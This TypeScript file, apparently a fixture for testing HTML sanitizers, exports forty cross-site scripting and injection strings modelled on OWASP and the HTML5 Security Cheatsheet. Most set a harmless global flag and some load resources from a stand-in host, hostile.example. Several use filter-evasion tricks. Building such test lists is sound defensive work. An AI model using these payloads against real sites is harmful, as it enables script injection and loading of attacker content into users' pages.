const address = 'https://hostile.example/';
const script = `globalThis.hostile='ran'`;

/**
 * Texts that do something where a program takes them for markup, for code or for an address: they set `hostile` of the page, or ask for
 * an address at hostile.example. Forty of them, of the kinds that OWASP and the HTML5 Security Cheatsheet list.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="${address}a.js"></script>`,
  `<SCRIPT\t>${script}</SCRIPT\n>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</style><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `<img src=x onerror="${script}">`,
  `<img src="${address}a.png">`,
  `<img src=x:x onerror\n=${script}>`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<body onload="${script}">`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.hostile='ran'</script>"></iframe>`,
  `<object data="${address}a"></object>`,
  `<embed src="${address}a">`,
  `<link rel=stylesheet href="${address}a.css">`,
  `<style>@import "${address}a.css";</style>`,
  `<style>*{background:url(${address}b.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}">`,
  `<form action="${address}"><button autofocus onfocus="${script}">x</button></form>`,
  `<input autofocus onfocus="${script}">`,
  `<details open ontoggle="${script}">x</details>`,
  `<video><source onerror="${script}"></video>`,
  `<audio src=x onerror="${script}">`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="data:text/html,<script>${script}</script>">x</a>`,
  `<div style="background:url(${address}c.png)">x</div>`,
  `" onmouseover="${script}" x="`,
  "' onfocus=globalThis.hostile='ran' autofocus x='",
  `\${(()=>{${script}})()}{{constructor.constructor("${script}")()}}`,
  `&lt;img src=x onerror=${script}&gt;&#60;script&#62;${script}&#60;/script&#62;`,
];
